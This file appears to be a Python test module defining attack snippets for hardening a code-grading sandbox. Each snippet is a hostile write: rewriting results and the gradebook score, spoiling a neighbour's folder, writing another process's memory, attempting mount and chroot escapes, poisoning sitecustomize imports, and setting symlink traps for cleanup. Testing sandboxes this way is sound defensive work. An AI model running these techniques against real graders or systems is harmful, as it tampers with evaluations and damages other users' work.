"""Writing: results, gradebook, others' work, the course, the worker; and files that outlive it."""

from tests.attacks.attack import Attack, doing, gaining

OWN = """
OWN = []
if WALLED:
    OWN = [sys.modules["worker.agent"].__file__, torch.__file__, sys.executable, os.__file__, "/course/tiny/course.py"]
    OWN += ["course.py", "/etc/ld.so.preload", "/x", "/dev/shm/../x", "/proc/self/comm/../../1/comm"]
"""

CHANGE = """
def change(path):
    def attempt():
        with open(path, "ab") as file:
            file.write(b"changed")
        return path
    return attempt
"""

MOUNTS = """
def leave():
    calls = [("unshare", 0x20000)]
    if WALLED:
        calls += [("chroot", b"."), ("unshare", 0x10000000), ("umount2", b"/tmp", 2), ("setns", 0, 0)]
        calls += [("mount", b"none", b"/tmp", b"tmpfs", 0, b""), ("mount", b"/", b"/", None, 4096 | 32, None)]
        calls += [("pivot_root", b".", b"."), ("syscall", 430, b"tmpfs", 0), ("syscall", 428, -100, b".", 1)]
    return [name for name, *arguments in calls if getattr(LIBC, name)(*arguments) >= 0]
"""

DEEP = """
def dig(levels, name):
    for _ in range(levels):
        os.mkdir(name)
        os.chdir(name)
"""


def writes(name: str, wants: str, source: str, **options: object) -> Attack:
    return Attack(name, "writing", wants, source, **options)


ATTACKS = (
    writes("changes results", "points", gaining('gains(*map(change, ["$results", *OWN]))', OWN + CHANGE)),
    writes(
        "updates the gradebook",
        "points for all",
        gaining(
            "gains(update)",
            """
import sqlite3
def update():
    with sqlite3.connect("$gradebook") as book:
        return book.execute("UPDATE grade SET score = 100").rowcount
""",
        ),
    ),
    writes(
        "writes into another's folder",
        "a neighbour's work spoilt",
        gaining('gains(lambda: Path("$notebook").write_text("mine"), lambda: Path("$folder/mei/new").touch() or 1)'),
    ),
    writes(
        "replaces files",
        "another file under the old name",
        gaining(
            "gains(rename, remove, empty, make)",
            OWN
            + """
def rename(): return [os.rename(path, path + "x") or path for path in [*OWN, "$results"]]
def remove(): return os.unlink("$hidden") or "removed"
def empty(): return os.truncate("$notebook", 0) or "emptied"
def make(): return os.mkdir("$folder/new") or "made"
""",
        ),
    ),
    writes(
        "changes modes, owners and times",
        "a file that the grader cannot use, or trusts for its date",
        gaining(
            "gains(mode, owner, times, label)",
            """
def mode(): return os.chmod("$results", 0) or 1
def owner(): return os.chown("$results", 1, 1) or 1
def times(): return os.utime("$notebook", (1, 1)) or 1
def label(): return os.setxattr("$hidden", "user.attack", b"x") or 1
""",
        ),
    ),
    writes(
        "writes through another's descriptor",
        "results, past their path",
        gaining(
            "gains(*map(change, PATHS))",
            CHANGE
            + """
PATHS = ["/proc/$other/fd/$descriptor", "/proc/$other/root$results"]
PATHS += ["/proc/1/fd/0", f"/proc/{os.getppid()}/fd/3"] if WALLED else []
""",
        ),
    ),
    writes(
        "writes another's memory",
        "another verdict, by /proc/pid/mem and process_vm_writev",
        gaining(
            "gains(by_file, by_call)",
            """
def by_file():
    with open("/proc/$other/mem", "r+b", buffering=0) as memory:
        memory.seek($address)
        return memory.write(b"x")
def by_call():
    block = ctypes.create_string_buffer(b"x", 1)
    ours, theirs = (ctypes.c_void_p * 2)(ctypes.addressof(block), 1), (ctypes.c_void_p * 2)($address, 1)
    return LIBC.process_vm_writev($other, ours, 1, theirs, 1, 0) > 0
""",
        ),
    ),
    writes("mounts, and leaves its root", "another view of the file system", gaining("leave()", MOUNTS)),
    writes(
        "drops files where others look",
        "something that outlives it",
        gaining(
            'gains(*(lambda p=p: Path(p, "dropped-$dropped").touch() or p for p in PLACES))',
            """
PLACES = ["/var/tmp"]
PLACES += ["/dev/mqueue", "/run", "/home", "/var/lib", "$folder", "/opt", "/scratch", "/tmp/.."] if WALLED else []
""",
        ),
    ),
    writes(
        "leaves shared memory",
        "something that outlives it, in /dev/shm",
        gaining(
            "gains(leave)",
            """
def leave():
    place = "/dev/shm/dropped-$dropped"
    Path(place).write_bytes(b"x")
    return os.environ["HOME"] != "/tmp" and place
""",
        ),
    ),
    writes(
        "poisons imports of the next",
        "its own course.py, torch and sitecustomize in front of others'",
        doing(
            "import shutil",
            "home = Path(os.environ['HOME']) if WALLED else Path('.')",
            "for folder in {home, Path('.'), home / '.local/lib/python3.11/site-packages'}:",
            "    folder.mkdir(parents=True, exist_ok=True)",
            "    for name in ('course', 'sitecustomize', 'usercustomize'):",
            "        (folder / f'{name}.py').unlink(missing_ok=True)",
            "        (folder / f'{name}.py').write_text('ANSWER = 666')",
            "return []",
        ),
        asks="follower",
        lifted="process",
    ),
    writes(
        "nests folders without end",
        "files that cannot be removed: too deep, closed, with long names",
        DEEP + doing("os.mkdir('pit')", "os.chdir('pit')", "dig(3000, 'd')", "os.chmod('..', 0)", "return []"),
        ends=("returned", "died"),
        lifted="process",
    ),
    writes(
        "nests folders of long names",
        "files that cannot be removed: paths beyond every limit",
        DEEP + doing("os.mkdir('pit')", "os.chdir('pit')", "dig(60, 'd' * 255)", "return []"),
        lifted="process",
    ),
    writes(
        "leaves a trap for cleaning up",
        "others' files removed through a link",
        doing(
            "os.mkdir('t')",
            "os.symlink('$folder/mei', 't/link')",
            "os.symlink('$folder/mei', 'link')",
            "home = os.environ.get('HOME', '.')",
            "if WALLED:",
            "    os.chdir(home)",
            "    os.rename('work', 'gone')",
            "    os.symlink('$folder', 'work')",
            "return []",
        ),
        lifted="process",
    ),
    writes(
        "hides from cleaning up",
        "files that stay: closed folders, odd names, pipes, growing while they are removed",
        "import secrets\n"
        + doing(
            "os.mkdir('closed')",
            "os.mkfifo('closed/pipe')",
            "Path('closed', '\\n \\udcff').touch()",
            "os.symlink('loop', 'loop')",
            "os.chmod('closed', 0)",
            "os.chmod('.', 0o500)",
            "def grow():",
            "    place = '.' if WALLED else '$folder'",
            "    for _ in range(400):",
            "        try:",
            "            Path(place, secrets.token_hex()).touch()",
            "        except OSError:",
            "            pass",
            "        time.sleep(0.005)",
            "daemonize(grow)",
            "return []",
        ),
        ends=("returned", "refused"),
        lifted="process",
    ),
)
